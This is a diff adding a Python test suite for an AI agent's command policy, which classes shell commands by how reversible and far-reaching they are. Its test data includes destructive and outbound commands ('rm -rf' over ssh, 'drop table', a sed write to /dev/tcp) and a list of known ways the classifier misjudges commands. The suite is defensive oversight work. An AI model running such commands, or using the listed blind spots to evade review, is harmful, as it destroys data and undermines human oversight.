@@ -1,0 +1,287 @@
+"""What commands are taken for. commands.txt is the specification: real lines, hidden and quoted ones too."""
+
+from __future__ import annotations
+
+import re
+import subprocess
+import time
+from pathlib import Path
+
+import pytest
+from hypothesis import assume, example, given, settings
+from hypothesis import strategies as st
+
+from waypoint.agent.policy import (
+    CLASSES,
+    Judgement,
+    Policy,
+    Rules,
+    built_in,
+    built_in_text,
+)
+from waypoint.errors import PolicyBroken
+
+R, S, E, U, I = "read-only", "reversible", "external-reversible", "unknown", "irreversible"  # noqa: E741
+
+POLICY = Policy()
+
+
+def judge(line: str) -> Judgement:
+    return POLICY.judge(line, cwd="/srv/app")
+
+
+def table() -> list[tuple[str, str]]:
+    found, class_ = [], ""
+    for line in (Path(__file__).parent / "commands.txt").read_text().splitlines():
+        if line.startswith("== "):
+            class_ = line[3:].partition(":")[0]
+        elif line and class_:
+            found.append((line.replace("⏎", "\n"), class_))
+    return found
+
+
+TABLE = table()
+
+
+@pytest.mark.parametrize(("line", "expected"), TABLE, ids=[line[:60] for line, _ in TABLE])
+def test_a_line_is_taken_for_what_it_is(line: str, expected: str) -> None:
+    found = judge(line)
+    assert found.class_ == expected, (found.unseen, found.parts)
+
+
+def test_the_table_is_long_enough() -> None:
+    assert len({line for line, _ in TABLE}) >= 400
+    assert len(TABLE) == len({line for line, _ in TABLE})
+
+
+# ---- what is known to be missed ---------------------------------------------------------------------------
+
+MISSES = {
+    "git commit -m x": "a hook of the repository may run anything",
+    "npm install": "packages run scripts when they are installed",
+    "psql -c 'drop table users'": "PGHOST may have been exported earlier",
+    "curl -d x http://localhost:8080": "a tunnel or a proxy may listen there",
+    "curl https://example.com/unsubscribe": "a GET that changes something",
+    "ls": "an alias, a function or another PATH of an earlier command",
+    "touch /data/x": "a bind mount is outside every checkpoint",
+    "sed -n 'w /dev/tcp/example.com/80' x": "a file name that only the program sees",
+}
+"""Taken for harmless, and may not be: docs/limits.md has the same list."""
+
+
+@pytest.mark.parametrize("line", MISSES)
+def test_a_known_miss_is_one_and_is_written_down(line: str) -> None:
+    assert judge(line).class_ in (R, S), "no longer a miss: move it into the table, and out of docs/limits.md"
+    limits = (Path(__file__).parents[2] / "docs" / "limits.md").read_text()
+    assert f"`{line}`" in limits
+
+
+# ---- what a judgement says ---------------------------------------------------------------------------------
+
+
+def only(line: str) -> dict[str, str]:
+    (part,) = judge(line).outside
+    return {"target": part.target, "key": part.key, "compensate": part.compensate, "why": part.why}
+
+
+@pytest.mark.parametrize(
+    ("line", "target"),
+    [
+        ("git push origin fix-auth", "origin fix-auth"),
+        ("git push", "the default remote"),
+        ("npm publish", "the package in this folder"),
+        ("docker push r.example.com/app:1", "r.example.com/app:1"),
+        ("curl -X POST https://u:secret@api.example.com/x?token=1", "POST https://api.example.com/x"),
+        ("psql postgres://u:p@db.example.com/x -c 'drop table y'", "db.example.com"),
+        ("rsync -a ./ me@web1:/srv", "web1:/srv"),
+        ("kubectl -n prod delete pod web", "the present cluster prod pod web"),
+        ("ssh web1 rm -rf /srv", "machine web1"),
+        ("heroku ps:restart -a shop", "shop"),
+        ("aws s3 rm s3://bucket/key", "s3://bucket/key"),
+        ("mail -s x bob@example.com", "bob@example.com"),
+    ],
+)
+def test_an_effect_has_a_target(line: str, target: str) -> None:
+    assert only(line)["target"] == target
+
+
+def test_the_same_effect_has_the_same_key_however_it_is_written() -> None:
+    key = only("npm publish")["key"]
+    assert key.startswith("publish-a-package:")
+    assert only("sudo env A=1 bash -c 'npm  publish'")["key"] == key
+    assert only("npm publish --tag next")["key"] != key
+    assert POLICY.judge("npm publish", cwd="/elsewhere").outside[0].key != key
+    assert (
+        only("curl -X POST https://api.example.com")["key"]
+        == only("cd /x; curl -X POST https://api.example.com")["key"]
+    )
+
+
+def test_an_idempotency_key_that_the_request_carries_is_the_key() -> None:
+    line = "curl -X POST -H 'Idempotency-Key: order-17' https://api.example.com/charges"
+    assert only(line)["key"] == "order-17"
+
+
+def test_what_goes_out_can_be_made_good_or_says_why_not() -> None:
+    for line in (
+        "git push origin x",
+        "npm publish",
+        "terraform apply",
+        "kubectl apply -f x",
+        "mail bob@example.com",
+    ):
+        assert only(line)["compensate"], line
+    for line, class_ in TABLE:
+        if class_ == I:
+            assert all(part.why for part in judge(line).outside if part.class_ == I), line
+
+
+def test_the_worst_part_counts_and_unknown_is_never_safe() -> None:
+    assert judge("ls; git push origin x; ./deploy.sh").class_ == U
+    assert judge("./deploy.sh; npm publish").class_ == I
+    assert judge("./deploy.sh; ls").decision == "record"
+    assert judge("./deploy.sh; ls").unseen == ("what ./deploy.sh does",)
+
+
+def test_decisions_follow_the_classes_unless_a_rule_says_otherwise() -> None:
+    assert [
+        judge(x).decision for x in ("ls", "rm x", "git push origin x", "git push origin main", "npm publish")
+    ] == [
+        "allow",
+        "allow",
+        "record",
+        "ask",
+        "ask",
+    ]
+
+
+def test_localhost_is_outside_where_the_network_is_shared() -> None:
+    assert POLICY.judge("curl -d x http://localhost:1/", shares_network=True).class_ == I
+
+
+def test_programs_started_without_a_shell_are_judged_too() -> None:
+    assert POLICY.judge_words(["npm", "publish"]).class_ == I
+    assert POLICY.judge_words(["bash", "-c", "ls && npm publish"]).class_ == I
+    assert POLICY.judge_words(["echo", "$(npm publish)"]).class_ == R
+    assert POLICY.judge_words(["npm publish"]).class_ == U
+
+
+# ---- files of the user ----------------------------------------------------------------------------
+
+
+def own(text: str) -> Policy:
+    return Policy(Rules(text, "policy.toml"))
+
+
+def test_own_rules_come_first_and_leave_the_rest_to_the_built_in_ones() -> None:
+    policy = own(
+        """
+        [decisions]
+        unknown = "deny"
+        [approval]
+        expires = "90s"
+        [[rule]]
+        command = "npm publish"
+        decision = "deny"
+        why = "CI does that"
+        [[rule]]
+        command = "git push"
+        when = { refs = "branch" }
+        decision = "allow"
+        [[rule]]
+        command = "curl"
+        when = { host = "api.example.com" }
+        class = "external-reversible"
+        [[rule]]
+        command = "shipit *|prod"
+        class = "irreversible"
+        target = "{1|}"
+        [programs]
+        shipit = "--env"
+        """
+    )
+    assert policy.expires_seconds == 90
+    found = policy.judge("npm publish")
+    assert (found.class_, found.decision, found.why) == (I, "deny", "npm publish: CI does that")
+    assert policy.judge("git push origin x").decision == "allow"
+    assert policy.judge("git push origin main").decision == "ask"
+    assert policy.judge("curl -d x https://api.example.com").class_ == E
+    assert policy.judge("curl -d x https://api.example.org").class_ == I
+    assert policy.judge("shipit --env x now web").outside[0].target == "web"
+    assert policy.judge("./x").decision == "deny"
+    assert policy.judge("ls").decision == "allow"
+
+
+@pytest.mark.parametrize(
+    ("text", "line", "said"),
+    [
+        ("a = ", 1, "no TOML"),
+        ("[[rule]]\ncommand = 'x'\nclass = 'harmless'\n", 3, "harmless"),
+        ("\n\n[[rule]]\ncommand = 'x'\n", 3, "a class, a decision"),
+        ("[[rule]]\nclass = 'unknown'\n", 1, "command"),
+        ("[[rule]]\ncommand = ''\nclass = 'unknown'\n", 1, "needs a command"),
+        ("[decisions]\nreversible = 'maybe'\n", 1, "maybe"),
+        ("[[rule]]\ncommand = 'x'\nclass = 'unknown'\nmatches = '('\n", 1, "missing )"),
+        ("[approval]\nexpires = 'soon'\n", 1, "no length of time"),
+        ("[[rule]]\ncommand = 'x'\nclass = 'unknown'\n[rules]\n", 4, "rules"),
+        ("[[rule]]\ncommand = 'x'\ntypo = 1\nclass = 'unknown'\n", 1, "typo"),
+    ],
+)
+def test_a_file_that_cannot_be_understood_names_line_and_reason(text: str, line: int, said: str) -> None:
+    with pytest.raises(PolicyBroken) as broken:
+        Rules(text, "policy.toml")
+    assert said in broken.value.message
+    if "TOML" not in said:
+        assert re.search(rf"line {line}\b", broken.value.message), broken.value.message
+    assert "until then no command runs" in broken.value.hint
+
+
+def test_the_built_in_rules_are_a_file_like_any_other() -> None:
+    assert built_in().expires_seconds == 600
+    assert Policy(Rules(built_in_text(), "a copy")).judge("npm publish").class_ == I
+
+
+# ---- any input at all ------------------------------------------------------------------------------
+
+SHELL = st.text(alphabet="git push\n\t|&;<>(){}[]$`'\"\\#*?!~=,-+%@^/abcEOF01é\x00", max_size=200)
+PIECES = st.lists(
+    st.sampled_from([
+        "git", "push", "npm publish", "bash -c", "'", '"', "$(", ")", "`", "${", "}", "{", "<<EOF\n",
+        "EOF\n", "|", "&&", ";", "case x in", "a)", ";;", "esac", "if", "then", "fi", "for x in",
+        "while", "do", "done", "[[", "]]", "((", "))", "f()", "\\", "\n", "<(", ">", "2>&1", "x=", "a=(",
+        "$'", "eval", "xargs", "#", "find . -exec", "\\;", "ssh h", "python3 -c", "sudo", "env -S", " ",
+        "awk", "sed", "true", "ls", "psql -h x -c", "curl -X", "{a,b}", "$x", "$((1))", "function",
+        "select", "time", "!", "coproc",
+    ]),
+    max_size=40,
+).map(" ".join)  # fmt: skip
+
+
+@settings(max_examples=400, deadline=None)
+@given(st.one_of(SHELL, PIECES))
+@example("(" * 5000)
+@example("$((" * 3000)
+@example('"${x:-' * 3000)
+@example("a=(" * 3000)
+@example("{a,b}" * 3000)
+@example("bash -c " + "'bash -c " * 50)
+@example("case x in " * 1000)
+@example("<<a " * 3000)
+@example("x" * 200_000)
+def test_any_line_is_judged_and_none_hangs(line: str) -> None:
+    started = time.process_time()
+    found = judge(line)
+    assert found.class_ in CLASSES
+    assert time.process_time() - started < 20
+
+
+@settings(max_examples=200, deadline=None)
+@given(PIECES)
+def test_a_dangerous_command_is_not_made_safe_by_what_stands_before_it(before: str) -> None:
+    """bash itself says where a command ends: what it takes for complete cannot hide the next line."""
+    checked = subprocess.run(["bash", "-n"], input=f"{before}\n".encode(), capture_output=True, check=False)
+    assume(checked.returncode == 0 and not checked.stderr and not before.endswith("\\"))
+    found = judge(f"{before}\nnpm publish")
+    assert found.class_ in (I, U), found
+    if not found.unseen:
+        assert found.class_ == I
